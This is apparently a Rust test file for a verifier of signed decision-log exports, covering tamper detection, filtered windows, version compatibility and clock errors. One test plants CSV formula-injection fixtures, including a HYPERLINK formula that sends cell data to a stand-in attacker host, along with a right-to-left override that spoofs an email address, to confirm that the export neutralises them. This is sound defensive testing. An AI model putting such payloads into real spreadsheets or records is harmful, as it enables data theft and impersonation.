//! Exports built from a log in memory and verified: whole and filtered
//! windows, windows at either end of the log, and every way of tampering
//! with a package the spec names: a changed byte, a removed, added or
//! reordered record, a derived line that does not follow from its leaf.

mod common;

use std::io::Cursor;

use common::decisions::{leaf_at, record, TestLog};
use common::packages::{build, head, log, try_build, Package, FROM, TO};
use serde_json::json;
use verifier::export::{self, boundary_of, lines, ExportError, Filter, Sources};
use verifier::range::cover;
use verifier::tree::HashReader;

#[test]
fn a_window_exports_and_verifies_as_complete() {
    let log = log();
    let p = build(&log, head(&log, FROM, TO, Filter::default()));
    assert_eq!((p.manifest.first, p.manifest.end), (10, 41));
    let v = p.verify().unwrap();
    assert!(v.end_proven);
    assert_eq!(
        v.to_string(),
        "complete: 31 decisions received in [2026-11-23T08:00:10Z, 2026-11-23T08:00:40.5Z), leaves 10..41 of tree size 60 signed by decisions.example.org/log"
    );
    let jsonl = String::from_utf8(p.jsonl.clone()).unwrap();
    assert_eq!(jsonl.lines().count(), 31);
    assert!(jsonl.lines().next().unwrap().contains("\"index\":10"));
    let csv = String::from_utf8(p.csv.clone()).unwrap();
    assert_eq!(csv.lines().count(), 32);
    assert!(csv.lines().nth(1).unwrap().starts_with("10,2026-11-23T08:00:10Z,2026-11-23T07:00:00.5Z,d10,deny,alice@example.com,human,alice@example.com,agent:travel-bot,POST /v1/bookings,bookings-api,bookings.authz@7,gateway gw-1,relay-1,2026-11-23T07:04:00Z,,"), "{csv}");
    let ocsf: serde_json::Value = serde_json::from_str(
        std::str::from_utf8(&p.ocsf)
            .unwrap()
            .lines()
            .next()
            .unwrap(),
    )
    .unwrap();
    assert_eq!(
        (
            ocsf["class_uid"].clone(),
            ocsf["type_uid"].clone(),
            ocsf["status_id"].clone()
        ),
        (json!(6003), json!(600301), json!(2))
    );
    let report = String::from_utf8(p.report.clone()).unwrap();
    assert!(
        report.contains("<h2>Break-glass and just-in-time access (4)</h2>"),
        "14, 21, 28, 35"
    );
    assert!(report.contains("<h2>Denials (7)</h2>"), "10, 15, … 40");
    // Made at 07:00:00.5, received from 08:00:10: every one over an hour late.
    assert!(
        report.contains("not logged inline (received over an hour after they were made, or over five minutes before) (31)</h2>")
            && report.contains("<td>2026-11-23T08:00:10Z</td><td>60 min later</td>"),
        "{report}"
    );
    // Windows at the ends of the log: no leaf before, or none after.
    let start = build(
        &log,
        head(&log, "2026-11-23T07:00:00Z", FROM, Filter::default()),
    );
    assert!(start.manifest.before.is_none() && start.verify().unwrap().end_proven);
    let open = build(
        &log,
        head(&log, FROM, "2026-11-24T00:00:00Z", Filter::default()),
    );
    let v = open.verify().unwrap();
    assert!(open.manifest.after.is_none() && !v.end_proven);
    assert!(v
        .to_string()
        .contains("decisions received after tree size 60 are not covered"));
    let empty = build(
        &log,
        head(
            &log,
            "2026-11-23T08:00:10.1Z",
            "2026-11-23T08:00:10.9Z",
            Filter::default(),
        ),
    );
    assert_eq!(empty.verify().unwrap().manifest.counts.leaves, 0);
}

#[test]
fn a_filtered_export_discloses_only_what_matches_and_still_proves_the_window() {
    let log = log();
    let filter = Filter {
        subject: Some("carol@example.com".into()),
        ..Filter::default()
    };
    let p = build(&log, head(&log, FROM, TO, filter));
    let v = p.verify().unwrap();
    assert_eq!(
        (v.manifest.counts.disclosed, v.manifest.counts.withheld),
        (8, 23)
    );
    assert!(v.to_string().contains("filtered (subject=carol@example.com): 8 disclosed and matching, 23 withheld as leaf hashes"));
    let jsonl = String::from_utf8(p.jsonl.clone()).unwrap();
    assert!(
        !jsonl.contains("alice@example.com\""),
        "no other subject is disclosed"
    );
    assert!(!String::from_utf8_lossy(&p.leaves).contains("alice@example.com"));
    // A disclosed record that does not match is caught.
    let mut wrong = build(&log, head(&log, FROM, TO, Filter::default()));
    wrong.manifest.filter = Filter {
        subject: Some("carol@example.com".into()),
        ..Filter::default()
    };
    assert!(
        matches!(wrong.verify(), Err(ExportError::Leaf { index: 10, .. })),
        "{:?}",
        wrong.verify()
    );
}

#[test]
fn tampering_is_caught_by_name() {
    let log = log();
    let p = build(&log, head(&log, FROM, TO, Filter::default()));
    let items = p.items();
    // A changed byte anywhere in leaves.cbor: the digest, then (restated)
    // the leaf itself or the range proof.
    for at in (0..p.leaves.len()).step_by(97) {
        let mut q = p.clone();
        q.leaves[at] ^= 0x01;
        assert!(
            matches!(
                q.verify(),
                Err(ExportError::File {
                    file: "leaves.cbor",
                    ..
                }) | Err(ExportError::Leaf { .. })
            ),
            "byte {at}: {:?}",
            q.verify()
        );
        q.redigest();
        assert!(q.verify().is_err(), "byte {at} with its digest restated");
    }
    // A record removed, or two swapped, with every derived file and count
    // made to agree: the range no longer leads to the signed root.
    let mut removed = p.clone();
    removed.leaves.drain(items[5].clone());
    removed.redigest();
    assert!(removed.verify().is_err());
    let mut swapped = p.clone();
    let (a, b) = (items[3].clone(), items[4].clone());
    let mut bytes = p.leaves[..a.start].to_vec();
    bytes.extend_from_slice(&p.leaves[b.clone()]);
    bytes.extend_from_slice(&p.leaves[a.clone()]);
    bytes.extend_from_slice(&p.leaves[b.end..]);
    swapped.leaves = bytes;
    swapped.redigest();
    assert!(
        matches!(
            swapped.verify(),
            Err(ExportError::Leaf { .. })
                | Err(ExportError::Derived { .. })
                | Err(ExportError::Range(_))
        ),
        "{:?}",
        swapped.verify()
    );
    // A record added at the end.
    let mut added = p.clone();
    added.leaves.extend_from_slice(&log.leaves[41]);
    added.redigest();
    assert!(
        matches!(
            added.verify(),
            Err(ExportError::File {
                file: "leaves.cbor",
                ..
            })
        ),
        "{:?}",
        added.verify()
    );
    // A derived line that is not what its leaf yields.
    for (file, edit) in [
        ("decisions.jsonl", 0usize),
        ("decisions.csv", 1),
        ("ocsf.jsonl", 2),
    ] {
        let mut q = p.clone();
        let target = match edit {
            0 => &mut q.jsonl,
            1 => &mut q.csv,
            _ => &mut q.ocsf,
        };
        let text =
            String::from_utf8(target.clone())
                .unwrap()
                .replacen("bookings-api", "orders-api", 1);
        *target = text.into_bytes();
        q.redigest();
        assert!(
            matches!(q.verify(), Err(ExportError::Derived { file: f, .. }) if f == file),
            "{file}: {:?}",
            q.verify()
        );
    }
    let mut q = p.clone();
    q.report = String::from_utf8(q.report)
        .unwrap()
        .replace("Denials (7)", "Denials (6)")
        .into_bytes();
    q.redigest();
    assert!(matches!(
        q.verify(),
        Err(ExportError::File {
            file: "report.html",
            ..
        })
    ));
    // A range that starts late or ends early is refused by its boundary.
    let mut late = head(&log, FROM, TO, Filter::default());
    late.first = 12;
    late.before = Some(boundary_of(11, &log.leaves[11], &log.proof(11)));
    late.left = cover(0, 12)
        .into_iter()
        .map(|id| log.tree.node(id).unwrap().to_base64())
        .collect();
    let q = build(&log, late);
    assert!(
        matches!(
            q.verify(),
            Err(ExportError::Boundary {
                which: "before",
                ..
            })
        ),
        "{:?}",
        q.verify()
    );
    let mut early = head(&log, FROM, TO, Filter::default());
    early.end = 39;
    early.after = Some(boundary_of(39, &log.leaves[39], &log.proof(39)));
    early.right = cover(39, 60)
        .into_iter()
        .map(|id| log.tree.node(id).unwrap().to_base64())
        .collect();
    let q = build(&log, early);
    assert!(
        matches!(
            q.verify(),
            Err(ExportError::Boundary { which: "after", .. })
        ),
        "{:?}",
        q.verify()
    );
    // Another log's key.
    let other = verifier::SignerKey::from_seed("other.example/log", &[2; 32]).unwrap();
    let r = export::verify(
        Sources {
            manifest: serde_json::to_vec(&p.manifest).unwrap(),
            checkpoint: p.checkpoint.clone(),
            report: p.report.clone(),
            leaves: Cursor::new(p.leaves.clone()),
            jsonl: Cursor::new(p.jsonl.clone()),
            csv: Cursor::new(p.csv.clone()),
            ocsf: Cursor::new(p.ocsf.clone()),
        },
        &other.verifier(),
        |_, _| {},
    );
    assert!(matches!(r, Err(ExportError::Checkpoint(_))));
}

#[test]
fn csv_fields_cannot_be_formulas_and_v1_exports_still_verify() {
    let hostile = (0..6)
        .map(|i| {
            let mut r = record(&format!("f{i}"));
            if i == 4 {
                // A right-to-left override: "mallory" shown as another name.
                r["subject"]["id"] = json!("mallory\u{202e}moc.elpmaxe@ecila");
                r["decision"] = json!("deny");
            }
            if i % 2 == 1 {
                r["subject"]["id"] = json!("=HYPERLINK(\"http://evil.example/\"&A1,\"open\")");
                r["action"]["name"] = json!("-2+3");
                // A line break in a field: the CSV row spans two lines.
                r["reasons"] = json!(["@SUM(1)", "fine\nline two"]);
            }
            leaf_at(&r, &format!("2026-11-23T08:00:{i:02}Z"))
        })
        .collect();
    let log = TestLog::new(hostile);
    let mut p = build(
        &log,
        head(
            &log,
            "2026-11-23T08:00:00Z",
            "2026-11-23T08:00:06Z",
            Filter::default(),
        ),
    );
    assert_eq!(p.manifest.format, export::FORMAT);
    p.verify().unwrap();
    let csv = String::from_utf8(p.csv.clone()).unwrap();
    let row = csv.lines().nth(2).unwrap();
    assert!(
        row.contains(",\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"open\"\")\",")
            && row.contains(",'-2+3,"),
        "{row}"
    );
    assert!(csv.contains(",\"'@SUM(1); fine\nline two\"\n"), "{csv}");
    assert!(csv.lines().nth(1).unwrap().contains(",alice@example.com,"));

    // The same leaves with their fields as given: an export@v1 verifies,
    // and the same CSV under export@v2 does not.
    let mut as_given = lines::CSV_HEADER.to_string();
    for (i, leaf) in log.leaves.iter().enumerate() {
        let logged = verifier::decision::LoggedDecision::from_leaf(leaf).unwrap();
        as_given.push_str(&lines::csv(i as u64, &logged, export::Version::V1));
    }
    p.csv = as_given.into_bytes();
    p.redigest();
    let err = p.verify().unwrap_err();
    assert!(err.to_string().contains("decisions.csv"), "{err}");
    // A v1 report has no list of decisions not logged inline, and shows
    // record text only HTML-escaped; a v2 one shows the override.
    let report = String::from_utf8(p.report.clone()).unwrap();
    assert!(
        report.contains("<h2>Decisions not logged inline"),
        "{report}"
    );
    assert!(
        report.contains("mallory\\u{202e}moc") && !report.contains('\u{202e}'),
        "{report}"
    );
    p.manifest.format = export::FORMAT_V1.into();
    assert!(p.verify().unwrap_err().to_string().contains("report"));
    let mut v1 = export::report::Report::default();
    for leaf in &log.leaves {
        v1.add(&verifier::decision::LoggedDecision::from_leaf(leaf).unwrap());
    }
    p.report = v1
        .html(&export::heading(&p.manifest, export::Version::V1))
        .into_bytes();
    let v1_report = String::from_utf8(p.report.clone()).unwrap();
    assert!(!v1_report.contains("not logged inline") && v1_report.contains('\u{202e}'));
    p.redigest();
    p.verify().unwrap();
    p.manifest.format = "decision-ledger/export@v9".into();
    assert!(p.verify().unwrap_err().to_string().contains("format"));
}

/// A request whose policy engine allowed what its gate denied: the v3
/// report lists it and the verdict counts it; the finding spans the
/// filter (only disclosed decisions are compared); an export@v2 (no such
/// list) still verifies.
#[test]
fn the_report_lists_requests_whose_enforcers_disagreed_and_v2_exports_still_verify() {
    let hop = |i: usize, request: &str, kind: &str, decision: &str| {
        let mut r = record(&format!("r{i}"));
        r["enforcer"] = json!({"id": format!("{kind}-1"), "kind": kind});
        r["context"] = json!({"request_id": request});
        r["decision"] = json!(decision);
        leaf_at(&r, &format!("2026-11-23T08:00:{i:02}Z"))
    };
    let log = TestLog::new(vec![
        hop(0, "req-a", "policy_engine", "allow"),
        hop(1, "req-b", "policy_engine", "allow"),
        hop(2, "req-a", "gateway", "deny"),
        hop(3, "req-b", "gateway", "allow"),
        hop(4, "req-c", "token_issuer", "deny"),
        hop(5, "req-c", "api", "allow"),
    ]);
    let whole = || {
        head(
            &log,
            "2026-11-23T08:00:00Z",
            "2026-11-23T08:00:06Z",
            Filter::default(),
        )
    };
    let mut p = build(&log, whole());
    let v = p.verify().unwrap();
    assert_eq!(v.disagreements, 2);
    assert!(
        v.to_string()
            .contains("; 2 findings between decisions of one request"),
        "{v}"
    );
    let report = String::from_utf8(p.report.clone()).unwrap();
    assert!(
        report.contains("<h2>Requests whose enforcers disagreed"),
        "{report}"
    );
    assert!(
        report.contains("<td>policy engine and gate disagree</td><td>r0, r2</td>")
            && report.contains("<td>token issuer denied, gate allowed</td><td>r4, r5</td>")
            && !report.contains("r1, r3"),
        "{report}"
    );
    // A report without the list does not pass for a v3 one.
    let v2_report = |p: &Package| {
        let mut r = export::report::Report::default();
        for leaf in &log.leaves[p.manifest.first as usize..p.manifest.end as usize] {
            r.add(&verifier::decision::LoggedDecision::from_leaf(leaf).unwrap());
        }
        r.html(&export::heading(&p.manifest, export::Version::V2))
            .into_bytes()
    };
    p.report = v2_report(&p);
    p.redigest();
    assert!(p.verify().unwrap_err().to_string().contains("report"));
    // Under export@v2 it is the report, and the verdict counts nothing.
    p.manifest.format = export::FORMAT_V2.into();
    p.report = v2_report(&p);
    p.redigest();
    let v = p.verify().unwrap();
    assert_eq!(v.disagreements, 0);
    assert!(!String::from_utf8(p.report.clone())
        .unwrap()
        .contains("disagreed"));
    // Filtered to the gates, the engine's decisions are withheld: nothing
    // is compared with them.
    let gates = Filter {
        enforcer: Some("gateway-1".into()),
        ..Filter::default()
    };
    let p = build(
        &log,
        head(&log, "2026-11-23T08:00:00Z", "2026-11-23T08:00:06Z", gates),
    );
    assert_eq!(p.verify().unwrap().disagreements, 0);
}

/// A log whose clock went back (leaf 5 received before leaf 4): the
/// builder refuses the window across it, naming the leaf, instead of
/// writing a package that would not verify; a window after it exports.
#[test]
fn a_clock_that_went_back_is_named_not_exported() {
    let leaves = (0..10)
        .map(|i| {
            let second = if i == 5 { 1 } else { i };
            leaf_at(
                &record(&format!("d{i}")),
                &format!("2026-11-23T08:00:{second:02}Z"),
            )
        })
        .collect();
    let log = TestLog::new(leaves);
    // The window holds every leaf: [0, 10).
    let across = head(
        &log,
        "2026-11-23T08:00:00Z",
        "2026-11-23T09:00:00Z",
        Filter::default(),
    );
    assert_eq!((across.first, across.end), (0, 10));
    let Err(e) = try_build(&log, across) else {
        panic!("the builder refuses leaf 5");
    };
    assert!(matches!(e, ExportError::Leaf { index: 5, .. }), "{e}");
    assert!(e.to_string().contains("clock went back"), "{e}");
    // After the step back, the clock runs forward again: that window is fine.
    let p = build(
        &log,
        head(
            &log,
            "2026-11-23T08:00:06Z",
            "2026-11-23T09:00:00Z",
            Filter::default(),
        ),
    );
    assert_eq!((p.manifest.first, p.manifest.end), (6, 10));
    assert!(p.verify().is_ok());
}
